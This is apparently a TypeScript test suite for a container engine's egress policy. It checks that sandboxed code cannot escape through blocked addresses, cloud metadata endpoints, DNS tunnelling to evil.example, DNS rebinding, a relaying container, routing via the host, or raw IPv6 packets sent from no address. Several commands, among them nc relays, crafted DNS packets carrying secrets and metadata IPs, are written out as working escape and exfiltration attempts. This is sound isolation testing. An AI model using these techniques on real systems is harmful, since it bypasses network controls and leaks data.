// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import type { Container } from '../../lib/containers/container';
import type { ContainerOptions } from '../../lib/containers/spec';
import { readAll, TestEngine } from '../helpers/engine';
import { buildStatic } from '../helpers/static-program';
import { DnsServer } from '../network/dns-server';
import { Outside } from '../network/outside';

const WAIT = ['sh', '-c', 'trap "exit 0" TERM; while :; do sleep 1 & wait $!; done'];
const SERVER = '198.51.100.53';
const METADATA = ['169.254.169.254', '100.100.100.200', '168.63.129.16', 'fd00:ec2::254'];
const HOST = ['198.51.100.1', 'fd98:52::1'];
/** Names an attacker has, which the user allows all the same. */
const ZONE = Object.fromEntries([
  ['good.example A', [{ type: 'A', data: '198.51.100.7' }]],
  ['good.example AAAA', [{ type: 'AAAA', data: 'fd98:52::7' }]],
  ...[...METADATA, ...HOST, '10.97.9.2', 'fd97:9::2', '10.97.9.1', '127.0.0.1', '::1', '::ffff:169.254.169.254'].map((data, i) => {
    const type = data.includes(':') ? 'AAAA' : 'A';
    return [`r${i}.rebind.example ${type}`, [{ type, data: data === '::ffff:169.254.169.254' ? '::ffff:a9fe:a9fe' : data }]];
  }),
]);

/** Sends an echo request and a datagram to port 9 of an address and its hardware address, from ::. */
const NOBODY = String.raw`
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip6.h>
#include <netpacket/packet.h>
#include <string.h>
static struct { struct ip6_hdr ip; unsigned short data[4]; } packet;
int main(int argc, char **argv) {
  struct sockaddr_ll to = {AF_PACKET, htons(ETH_P_IPV6), if_nametoindex("eth0"), 0, 0, 6};
  int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
  unsigned short sent[2][4] = {{htons(0x8000)}, {htons(9), htons(9), htons(8)}};
  memcpy(to.sll_addr, ether_aton(argv[2]), 6);
  inet_pton(AF_INET6, argv[1], &packet.ip.ip6_dst);
  packet.ip.ip6_vfc = 0x60, packet.ip.ip6_plen = htons(8), packet.ip.ip6_hlim = 64;
  for (int i = 0; i < 2; i++) {
    packet.ip.ip6_nxt = i ? IPPROTO_UDP : IPPROTO_ICMPV6;
    unsigned sum = htons(8) + htons(packet.ip.ip6_nxt);
    for (int j = 0; j < 8; j++) sum += packet.ip.ip6_dst.s6_addr16[j];
    for (int j = 0; j < 4; j++) sum += sent[i][j];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    sent[i][i ? 3 : 1] = ~sum;
    memcpy(packet.data, sent[i], sizeof packet.data);
    if (sendto(fd, &packet, sizeof packet, 0, (void *)&to, sizeof to) != sizeof packet) return 1;
  }
  return 0;
}`;

/** Untrusted code with an allow list looks for a way out; every host outside is in a namespace of the test's own. */
describe('exfiltration under an egress policy', function () {
  this.timeout(180_000);
  let test: TestEngine;
  let outside: Outside;
  let server: DnsServer;
  const asked: string[] = [];
  before(async () => {
    test = await TestEngine.create();
    outside = new Outside(HOST.map((address) => `${address}/${address.includes(':') ? 64 : 24}`), [`${SERVER}/24`, '198.51.100.7/32', '198.51.100.66/32', 'fd98:52::7/64', 'fd98:52::66/64', ...METADATA.map((address) => `${address}/${address.includes(':') ? 128 : 32}`)]);
    server = await DnsServer.start(outside.space, SERVER, ZONE as never);
    await test.engine.networks.create({ name: 'lan', ipam: [{ subnet: '10.97.9.0/24' }, { subnet: 'fd97:9::/64' }] });
  });
  afterEach(async () => {
    for (const { id } of await test.engine.containers.list({ all: true })) await (await test.engine.containers.get(id)).remove({ force: true });
  });
  after(async () => {
    await server.stop();
    outside.remove();
    await test.remove();
  });

  const run = (egress: string, options: Partial<ContainerOptions> = {}) => test.engine.containers.run({ image: 'busybox', command: WAIT, network: 'lan', egress, dns: [SERVER], ...options });
  async function inside(container: Container, ...command: string[]): Promise<{ code: number; output: string }> {
    const process = await container.exec(command);
    const [output, code] = await Promise.all([readAll(process.stdout), process.exited]);
    return { code: code as number, output };
  }
  const reaches = async (container: Container, address: string) => (await inside(container, address.includes(':') ? 'ping6' : 'ping', '-c', '1', '-W', '1', address)).code === 0;
  const talks = async (container: Container, address: string, port: number) => (await inside(container, 'sh', '-c', `nc -w 1 ${address} ${port} </dev/null`)).code === 0;
  const lookUp = (container: Container, name: string, ...rest: string[]) => inside(container, 'nslookup', ...rest, name);
  /** What the server was asked up to and with that name. */
  async function questionsUntil(name: string): Promise<string[]> {
    const from = asked.length;
    do asked.push(await server.question());
    while (!asked.at(-1)!.includes(` ${name} `));
    return asked.slice(from, -1);
  }

  it('finds every place it is to be kept from, without a policy', async () => {
    const free = await run('all');
    for (const address of [...METADATA, ...HOST, '198.51.100.66', 'fd98:52::66', '10.97.9.1']) assert.ok(await reaches(free, address), address);
    assert.ok(await talks(free, SERVER, 53));
  });

  it('by address: IPv4, IPv6, metadata services, the host, by ping and TCP', async () => {
    const container = await run('good.example');
    for (const address of ['198.51.100.66', 'fd98:52::66', ...METADATA, ...HOST, '10.97.9.1', 'fd97:9::1', '198.51.100.7']) assert.ok(!(await reaches(container, address)), address);
    assert.ok(!(await talks(container, SERVER, 53)));
  });

  it('by questions for names that are not allowed, to any server: none of them leaves', async () => {
    const container = await run('good.example');
    for (const name of ['c2VjcmV0.evil.example', 'good.example.evil.example', 'x.good.example', '7.100.51.198.in-addr.arpa']) {
      assert.notEqual((await lookUp(container, name)).code, 0, name);
      await lookUp(container, name, '-type=txt');
    }
    await inside(container, 'nslookup', '-timeout=1', '-retry=0', 'direct.evil.example', SERVER);
    await inside(container, 'sh', '-c', String.raw`printf '\000\035\022\064\001\000\000\001\000\000\000\000\000\000\003tcp\007example\000\000\020\000\001' | nc 127.0.0.11 53`);
    assert.equal((await lookUp(container, 'good.example', '-type=a')).code, 0);
    assert.deepEqual(await questionsUntil('good.example'), []);
  });

  it('in what an allowed question has besides its name', async () => {
    const container = await run('good.example');
    // An option of EDNS, and letters in both cases.
    const ask = String.raw`printf '\000\071\022\064\001\000\000\001\000\000\000\000\000\001\004GoOd\007eXaMpLe\000\000\001\000\001\000\000\051\020\000\000\000\000\000\000\020\375\351\000\014secretsecret' | nc 127.0.0.11 53 | xxd -p`;
    const { output } = await inside(container, 'sh', '-c', ask);
    assert.match(output.replaceAll('\n', ''), /1234.*476f4f64.*c6336407$/);
    await questionsUntil('good.example');
    assert.doesNotMatch(asked.at(-1)!, /736563726574|476f4f64/);
  });

  it('by answers for allowed names that lead to metadata, the host, its loopback or other containers', async () => {
    const peer = await run('all', { ip: '10.97.9.2', ip6: 'fd97:9::2' } as Partial<ContainerOptions>);
    const isolation = { capAdd: ['NET_ADMIN'] };
    const container = await run('*.rebind.example', { isolation });
    for (const [question, [{ data }]] of Object.entries(ZONE) as [string, [{ data: string }]][]) {
      const [name = '', type = ''] = question.split(' ');
      if (!name.endsWith('.rebind.example')) continue;
      const { output } = await lookUp(container, name, `-type=${type.toLowerCase()}`);
      assert.match(output, new RegExp(name), output);
      if (!['127.0.0.1', '::1'].includes(data)) assert.ok(!(await reaches(container, data)), data);
    }
    // The same by way of the host, which routes back what it is sent for a neighbour.
    const free = await run('all', { isolation });
    for (const each of [container, free]) assert.equal((await inside(each, 'ip', 'route', 'add', '10.97.9.2', 'via', '10.97.9.1')).code, 0);
    assert.ok(await reaches(free, '10.97.9.2'), 'free');
    assert.ok(!(await reaches(container, '10.97.9.2')), 'by way of the host');
    assert.ok(await reaches(peer, '198.51.100.66'));
  });

  it('by networks in the list that only happen to have such addresses in them', async () => {
    await run('all', { ip: '10.97.9.2' } as Partial<ContainerOptions>);
    const container = await run('0.0.0.0/0,::/0');
    for (const address of [...METADATA, ...HOST, '10.97.9.1', '10.97.9.2']) assert.ok(!(await reaches(container, address)), address);
    for (const address of ['198.51.100.66', 'fd98:52::66']) assert.ok(await reaches(container, address), address);
    const named = await run('169.254.169.254,198.51.100.1,10.97.9.2');
    for (const address of ['169.254.169.254', '198.51.100.1', '10.97.9.2']) assert.ok(await reaches(named, address), address);
  });

  it('through another container of its network, or a port that one publishes', async () => {
    const relay = await run('all', { publish: ['8053'], command: ['sh', '-c', 'while :; do nc -l -p 8053 -e cat; done'] });
    const { HostPort } = (await relay.inspect()).NetworkSettings.Ports['8053/tcp']![0]!;
    const relayAddress = (await relay.inspect()).NetworkSettings.Networks['lan']!.IPAddress;
    const [container, free] = [await run('good.example'), await run('all')];
    for (const [address, port] of [[relayAddress, 8053], ['198.51.100.1', Number(HostPort)], ['10.97.9.1', Number(HostPort)]] as const) {
      while (!(await talks(free, address, port))); // until it listens again
      assert.ok(!(await talks(container, address, port)), `${address}:${port}`);
    }
  });

  it('from no address, which a host has while it asks whether one is free', async () => {
    const [peer, free] = [await run('all'), await run('all')];
    const { GlobalIPv6Address: ip6, MacAddress: mac } = (await peer.inspect()).NetworkSettings.Networks['lan']!;
    const container = await run('none', { mounts: [`${buildStatic(test.loop.directory, 'nobody', NOBODY)}:/nobody:ro`] });
    assert.equal((await inside(container, '/nobody', ip6, mac)).code, 0);
    assert.ok(await reaches(free, ip6));
    const { output } = await inside(peer, 'grep', '-E', 'Icmp6InEchos|Udp6NoPorts', '/proc/net/snmp6');
    assert.deepEqual(output.match(/\d+$/gm), ['1', '0'], output);
  });

  it('to a server on the host, by any of its addresses', async () => {
    const host = createServer((socket) => socket.end('host'));
    await new Promise<void>((resolve) => host.listen(0, '::', resolve));
    const { port } = host.address() as { port: number };
    try {
      const container = await run('*.rebind.example');
      for (let i = 0; i < 12; i++) await lookUp(container, `r${i}.rebind.example`);
      for (const address of [...HOST, '10.97.9.1', 'fd97:9::1']) assert.ok(!(await talks(container, address, port)), address);
    } finally {
      host.close();
    }
  });
});
